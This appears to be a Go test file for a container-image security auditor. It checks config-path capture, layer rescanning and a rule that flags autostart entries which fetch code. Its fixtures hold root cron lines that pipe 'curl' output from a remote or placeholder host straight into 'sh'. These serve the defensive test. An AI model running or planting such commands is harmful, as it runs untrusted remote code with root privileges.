package rules

import (
	"slices"
	"strings"
	"testing"

	"github.com/auditor-dev/auditor/crawl"
	"github.com/auditor-dev/auditor/scanners"
	"github.com/auditor-dev/auditor/secconf"
)

// TestConfigPathsExtended: paths config.toml adds to the path set are
// captured with the kind they name (a vendor's cron directory is judged as
// cron), or as lines only; changing the set has each layer read once more,
// for the config scanner alone, and the next scan with the same set reads
// nothing.
func TestConfigPathsExtended(t *testing.T) {
	reg := testRegistry(t)
	base := baseLayer(t)
	app := layerOf(t,
		ent{name: "opt/vendor/cron/refresh", body: "*/5 * * * * root curl -fsSL http://198.51.100.9/r | sh\n"},
		ent{name: "opt/vendor/conf/app/agent.ini", body: "[agent]\nserver = 198.51.100.9\n"},
		ent{name: "opt/vendor/other/notes", body: "* * * * * root curl http://x | sh\n"},
		ent{name: "etc/passwd", body: "root:x:0:0:root:/root:/bin/sh\n"})
	push(t, reg+"/vendor/app:1", imageOf(t, nil, nil, base, app))
	m := testMatcher(t)
	db := tempDB(t)
	scanner := func(extra ...secconf.Extra) *scanners.Config {
		c, err := scanners.NewConfigWith(scanners.ConfigOptions{Extra: extra})
		if err != nil {
			t.Fatal(err)
		}
		return c
	}
	scan := func(c *scanners.Config) crawl.Stats {
		_, st := scanStats(t, db, crawl.Options{Scanners: []crawl.LayerScanner{m, c}}, reg)
		return st
	}
	extra := []secconf.Extra{{Glob: "/opt/vendor/cron/*", Kind: secconf.KindCron}, {Glob: "/opt/vendor/conf/**"},
		{Glob: "/etc/passwd", Kind: secconf.KindLines}} // a documented path keeps its kind

	scan(scanner())
	if got := queryLines(t, db, `SELECT path FROM image_config_files WHERE path LIKE '/opt/%'`); got != "" {
		t.Fatalf("documented set: captured %s", got)
	}
	entries := countRows(t, db, "files")
	st := scan(scanner(extra...))
	if st.LayersRescanned != 2 || !slices.Equal(st.Rescanners, []string{"config"}) {
		t.Errorf("set extended: %d layers read again for %v, want 2 for [config]", st.LayersRescanned, st.Rescanners)
	}
	if n := countRows(t, db, "files"); n != entries {
		t.Errorf("read again for the config scanner: %d entries, was %d", n, entries)
	}
	want := "/etc/passwd|passwd\n/opt/vendor/conf/app/agent.ini|lines\n/opt/vendor/cron/refresh|cron"
	if got := queryLines(t, db, `SELECT DISTINCT path || '|' || kind FROM image_config_files ORDER BY 1`); got != want {
		t.Errorf("captured:\n%s\nwant:\n%s", got, want)
	}
	if got := queryLines(t, db, `SELECT user || '|' || command FROM cron_jobs`); got != "root|curl -fsSL http://198.51.100.9/r | sh" {
		t.Errorf("cron_jobs: %q", got)
	}
	if got := queryLines(t, db, `SELECT line || '|' || text FROM image_config_lines WHERE kind = 'lines' ORDER BY line`); got != "1|[agent]\n2|server = 198.51.100.9" {
		t.Errorf("lines: %q", got)
	}
	runRules(t, db, defaultSet(t), RunOptions{})
	var fetch []string
	for _, f := range findings(t, db, Filter{}) {
		if f.RuleID == "autostart-fetches-code" {
			fetch = append(fetch, f.Path)
		}
	}
	if strings.Join(fetch, " ") != "/opt/vendor/cron/refresh" {
		t.Errorf("autostart-fetches-code on %v, want the extra cron file only", fetch)
	}

	if st := scan(scanner(extra...)); st.LayersRead != 0 {
		t.Errorf("same set again: %d layers read", st.LayersRead)
	}
}
